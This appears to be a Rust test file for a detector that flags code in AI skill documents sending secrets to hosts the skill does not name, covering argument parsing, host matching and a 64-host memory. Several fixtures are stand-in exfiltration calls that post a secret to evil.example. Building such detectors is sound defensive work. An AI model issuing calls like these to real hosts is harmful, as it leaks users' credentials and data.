//! Edges of `destination` that a whole-file mutation sweep found unpinned
//! (#27, session 24): where an authenticating argument ends, where a
//! call's URL argument ends, which occurrences of a name count, and
//! which hosts a skill documents (named in its prose, local, or named by
//! the secret's own variable) and how many it remembers.

use super::*;

fn spans<'a>(view: &'a str, re: &regex::bytes::Regex) -> Vec<&'a str> {
    regions(view, re).into_iter().map(|r| &view[r]).collect()
}

#[test]
fn an_authenticating_argument_ends_where_its_brackets_close_or_at_a_comma_or_a_flag() {
    // Bracketed: to its closing bracket, included, past commas inside it.
    assert_eq!(spans(r#"post(u, headers={"A": t, "B": b}, data=d)"#, &HEADER), [r#"{"A": t, "B": b}"#]);
    assert_eq!(spans("post(u, headers=dict(a=f(t)), data=d)", &HEADER), ["dict(a=f(t))"]);
    // Bare: to the comma at its depth, past a blank not before a flag.
    assert_eq!(spans("post(u, auth=a b, data=d)", &HEADER), ["a b"]);
    // Bare and last: to the call's own `)`, not included.
    assert_eq!(spans("post(u, auth=t)", &HEADER), ["t"]);
    // Bare, followed by a flag (PowerShell): to the blank before it.
    assert_eq!(spans("Invoke-RestMethod -Headers $h -Body $b", &HEADER), ["$h"]);
    // Nothing closes it: to the end of the view.
    assert_eq!(spans("x = auth=t y", &HEADER), ["t y"]);
    assert_eq!(spans("post(u, data=d)", &HEADER), Vec::<&str>::new());
}

#[test]
fn a_calls_url_is_its_first_argument_opened_at_most_two_blanks_after_its_name() {
    let at = |view: &str| position(view, &["t"], None);
    assert_eq!(at("requests.get(t)"), Position::Url);
    assert_eq!(at("requests.get  (t)"), Position::Url);
    // Three blanks: no call of the network function's name.
    assert_eq!(at("requests.get   (t)"), Position::Body);
    // The first argument ends at the comma at its depth.
    assert_eq!(at("requests.get(u, data=t)"), Position::Body);
    assert_eq!(at("requests.get (u, data=t)"), Position::Body);
    assert_eq!(at("requests.get(f(u), data=t)"), Position::Body);
    assert_eq!(at("requests.get(f(u) + t)"), Position::Url);
    assert_eq!(at("requests.get(f(u, t))"), Position::Url);
    assert_eq!(at("requests.get([u, t])"), Position::Url);
    // At its own `)`, not past it.
    assert_eq!(at("requests.get(u).json(); log(t)"), Position::Body);
}

#[test]
fn a_secret_only_in_headers_or_a_headers_variable_authenticates() {
    let at = |view: &str, name: &str| position(view, &[name], None);
    assert_eq!(at(r#"requests.post(u, headers={"A": t})"#, "t"), Position::Header);
    assert_eq!(at("requests.post(u, data=t)", "t"), Position::Body);
    // Header in one place and body in another: body.
    assert_eq!(at(r#"requests.post(u, headers={"A": t}, data=t)"#, "t"), Position::Body);
    // A variable named for headers, passed whole.
    assert_eq!(at("fetch(u, headers)", "headers"), Position::Header);
    assert_eq!(at("fetch(u, authorization)", "authorization"), Position::Header);
    assert_eq!(at("fetch(u, payload)", "payload"), Position::Body);
    // A read inside the call counts as an occurrence of its own.
    let view = r#"requests.post(u, headers={"A": x}, data=os.environ)"#;
    assert_eq!(position(view, &["x"], None), Position::Header);
    assert_eq!(position(view, &["x"], Some(view.find("os.").unwrap())), Position::Body);
}

#[test]
fn a_names_occurrences_are_whole_words_that_are_not_a_keywords_name() {
    assert_eq!(occurrences("token", "token"), [0]);
    assert_eq!(occurrences("x token", "token"), [2]);
    assert_eq!(occurrences("t + t", "t"), [0, 4]);
    // Inside a longer word, on either side, or with `_`: not the name.
    assert_eq!(occurrences("mytoken token_x tokens xtoken token", "token"), [30]);
    assert_eq!(occurrences("tt t", "t"), [3]);
    // `headers=` names a keyword argument; `t == 1` compares.
    assert_eq!(occurrences("f(headers=headers)", "headers"), [10]);
    assert_eq!(occurrences("f(headers = headers)", "headers"), [12]);
    assert_eq!(occurrences("t == 1", "t"), [0]);
    assert_eq!(occurrences("t + 1", "t"), [0]);
    assert_eq!(occurrences("send(x.t, t)", "t"), [7, 10]);
    assert_eq!(occurrences("nothing here", "t"), Vec::<usize>::new());
}

#[test]
fn a_view_mentions_a_name_it_holds_as_a_word_and_never_an_empty_one() {
    assert!(mentions("send(t)", "t"));
    assert!(!mentions("send(x)", "t"));
    assert!(!mentions("send(tt)", "t"));
    assert!(!mentions(" ", ""));
    assert!(!mentions("send(x)", ""));
}

/// Whether the call `raw` (its view without strings is not needed for
/// URLs) goes to hosts the skill documents, with `env` its secrets.
fn documented_in(text: &str, named: &mut Vec<(String, bool)>, raw: &str, env: &[&str]) -> bool {
    let body = Body::new(text);
    let map = CodeMap::of(text);
    let mut known = Known { hosts: &[], named, map: &map };
    let env: Vec<String> = env.iter().map(|e| e.to_string()).collect();
    documented(&body, &mut known, raw, raw, &env)
}

const NOTHING: &str = "# Skill\n\nPosts a report.\n";

#[test]
fn a_host_named_in_prose_is_documented_and_one_only_in_code_is_not() {
    let call = r#"requests.post("https://reports.acme.example/v1", data=t)"#;
    let prose = format!("# Skill\n\nSends it to reports.acme.example.\n\n```python\n{call}\n```\n");
    assert!(documented_in(&prose, &mut Vec::new(), call, &[]));
    let code_only = format!("# Skill\n\nSends it.\n\n```python\n{call}\n```\n");
    assert!(!documented_in(&code_only, &mut Vec::new(), call, &[]));
    // In inline code on a prose line: code too.
    let inline = format!("# Skill\n\nSends it with `reports.acme.example`.\n\n```python\n{call}\n```\n");
    assert!(!documented_in(&inline, &mut Vec::new(), call, &[]));
    // Nowhere in the text at all.
    assert!(!documented_in(NOTHING, &mut Vec::new(), call, &[]));
    // No host in the call: nothing to document.
    assert!(!documented_in(&prose, &mut Vec::new(), "requests.post(u, data=t)", &[]));
}

#[test]
fn a_local_host_is_documented() {
    for raw in ["fetch('http://localhost:8080/x')", "fetch('http://127.0.0.1:9000/x')"] {
        assert!(documented_in(NOTHING, &mut Vec::new(), raw, &[]), "{raw}");
    }
    assert!(!documented_in(NOTHING, &mut Vec::new(), "fetch('http://128.0.0.1/x')", &[]));
    // Every host of the call must be: one stranger spoils it.
    let two = "fetch('http://localhost/x'); fetch('https://evil.example/c')";
    assert!(!documented_in(NOTHING, &mut Vec::new(), two, &[]));
}

#[test]
fn a_host_is_owned_by_a_secret_whose_name_has_a_distinctive_word_of_its_label() {
    let owned = |raw: &str, env: &str| documented_in(NOTHING, &mut Vec::new(), raw, &[env]);
    assert!(owned("get('https://api.github.com/user')", "GITHUB_TOKEN"));
    assert!(!owned("get('https://api.gitlab.com/user')", "GITHUB_TOKEN"));
    // A word of three letters and more, contained in a label.
    assert!(owned("get('https://abcd.example/x')", "ABC_TOKEN"));
    assert!(!owned("get('https://abcd.example/x')", "AB_TOKEN"));
    // Generic words of the variable's name own nothing.
    assert!(!owned("get('https://myapi.example/x')", "API_TOKEN"));
    // Generic labels of the host are owned by nothing.
    assert!(!owned("get('https://zz.example/x')", "XAMPLE_TOKEN"));
}

#[test]
fn what_the_prose_says_of_a_host_is_remembered() {
    let call = "requests.post('https://evil.example/c', data=t)";
    // Remembered as named: the prose is not read again.
    let mut named = vec![("evil.example".to_string(), true)];
    assert!(documented_in(NOTHING, &mut named, call, &[]));
    // Another host's entry says nothing of this one.
    let mut named = vec![("other.example".to_string(), true)];
    assert!(!documented_in(NOTHING, &mut named, call, &[]));
    assert_eq!(named, [("other.example".to_string(), true), ("evil.example".to_string(), false)]);
}

#[test]
fn at_most_sixty_four_hosts_are_remembered_the_oldest_forgotten_first() {
    let call = "requests.post('https://evil.example/c', data=t)";
    let mut named: Vec<(String, bool)> =
        (0..MAX_HOSTS - 1).map(|k| (format!("h{k}.example"), true)).collect();
    assert!(!documented_in(NOTHING, &mut named, call, &[]));
    assert_eq!(named.len(), MAX_HOSTS);
    assert_eq!(named[0].0, "h0.example");
    let other = "requests.post('https://other.example/c', data=t)";
    assert!(!documented_in(NOTHING, &mut named, other, &[]));
    assert_eq!(named.len(), MAX_HOSTS);
    assert_eq!(named[0].0, "h1.example");
    assert_eq!(named[MAX_HOSTS - 1].0, "other.example");
}
